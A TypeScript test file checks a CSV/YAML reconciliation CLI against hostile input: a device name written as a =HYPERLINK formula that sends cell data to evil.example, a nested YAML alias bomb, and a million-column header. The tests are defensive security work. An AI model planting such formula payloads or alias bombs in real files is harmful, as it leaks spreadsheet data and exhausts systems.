import { execFile } from "node:child_process";
import { afterAll, describe, expect, it } from "vitest";
import { BASE_FILES, cleanup, repoRoot, trueup, workspace, yamlWith } from "./fixtures.ts";

// The real binary against hostile or careless input: formula cells, an alias bomb, a header of a
// million columns (docs/security.md).

afterAll(cleanup);

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
  ms: number;
}

function bin(...args: string[]): Promise<Run> {
  const start = Date.now();
  return new Promise((done) => {
    execFile(
      process.execPath,
      ["bin/trueup.js", ...args],
      { cwd: repoRoot, maxBuffer: 256 * 1024 * 1024 },
      (error, stdout, stderr) => {
        done({ code: error ? (error.code as number | null) : 0, stdout, stderr, ms: Date.now() - start });
      },
    );
  });
}

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

/** RFC 4180 fields of one CSV line (no line breaks inside fields in these tests). */
function fields(line: string): string[] {
  const out: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/g;
  for (let m = re.exec(line); m && m[0] !== ""; m = re.exec(line)) {
    const raw = m[1] ?? "";
    out.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    if (m[2] === "") break;
  }
  return out;
}

describe("trueup reconcile --format csv", () => {
  it("writes a device named as a formula as text, and negative money as a number", async () => {
    const devices = `${BASE_FILES["data/devices.csv"]}ACME,"${EVIL.replace(/"/g, '""')}",S9,workstation,2026-10-31,ann@acme.com\n`;
    // A credit line at -12.00: a PRICE_MISMATCH whose actual price is negative money.
    const psa = `${BASE_FILES["data/psa.csv"]}100,GOLD,1,-12.00,Credit\n`;
    const dir = await workspace({ "data/devices.csv": devices, "data/psa.csv": psa });
    const r = await bin("reconcile", "--workspace", dir, "--as-of", "2026-11-01", "--format", "csv");
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    const rows = r.stdout.trimEnd().split("\r\n").map(fields);
    const cells = rows.flat();
    const evil = cells.filter((c) => c.includes("HYPERLINK"));
    expect(evil.length).toBeGreaterThan(0);
    // Every cell that carries the name starts with a quote: a spreadsheet shows it, never runs it.
    for (const c of evil) expect(c.startsWith("'")).toBe(true);
    for (const c of cells) expect(/^[=+@\t\r]/.test(c)).toBe(false);
    // Negative money stays a number a spreadsheet can sum.
    expect(cells).toContain("-12.00");
  });
});

describe("a YAML alias bomb", () => {
  const bomb = [
    'a: &a ["x","x","x","x","x","x","x","x","x"]',
    "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]",
    "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]",
    "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]",
    "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]",
    "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]",
    "g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]",
    "",
  ].join("\n");

  for (const command of ["validate", "reconcile"]) {
    it(`makes trueup ${command} exit 2 with the file and line, no stack trace`, async () => {
      const dir = await workspace({ "trueup.yaml": `${bomb}${yamlWith("currency: USD", "currency: USD")}` });
      const r = await bin(command, "--workspace", dir);
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/trueup\.yaml:\d+(:\d+)?: .*alias/i);
      expect(r.stderr).not.toMatch(/\n\s+at /);
    });
  }
});

describe("a header of a million columns", () => {
  it("makes trueup validate exit 2 at once with a short message", async () => {
    const header = Array.from({ length: 1_000_000 }, (_, i) => `col${i}`).join(",");
    const dir = await workspace({ "data/users.csv": `${header}\nacme,a@acme.com\n` });
    const r = await bin("validate", "--workspace", dir);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("data/users.csv:1: the header has 1,000,000 columns");
    expect(r.stderr.length).toBeLessThan(5_000);
  });

  it("costs the CLI under two seconds of CPU (measured in-process: wall time varies with load)", async () => {
    const header = Array.from({ length: 1_000_000 }, (_, i) => `col${i}`).join(",");
    const dir = await workspace({ "data/users.csv": `${header}\nacme,a@acme.com\n` });
    const cpu = process.cpuUsage();
    const r = await trueup("validate", "--workspace", dir);
    const used = process.cpuUsage(cpu);
    expect(r.code).toBe(2);
    expect((used.user + used.system) / 1000).toBeLessThan(2_000);
  });

  it("lists a header in a message by its first columns and how many more", async () => {
    const header = ["upn", ...Array.from({ length: 500 }, (_, i) => `extra${i}`)].join(",");
    const dir = await workspace({ "data/users.csv": `${header}\na@acme.com\n` });
    const r = await bin("validate", "--workspace", dir);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('missing required column "account" (the header has: upn, extra0,');
    expect(r.stderr).toContain("... and 481 more)");
    expect(r.stderr.length).toBeLessThan(5_000);
  });
});
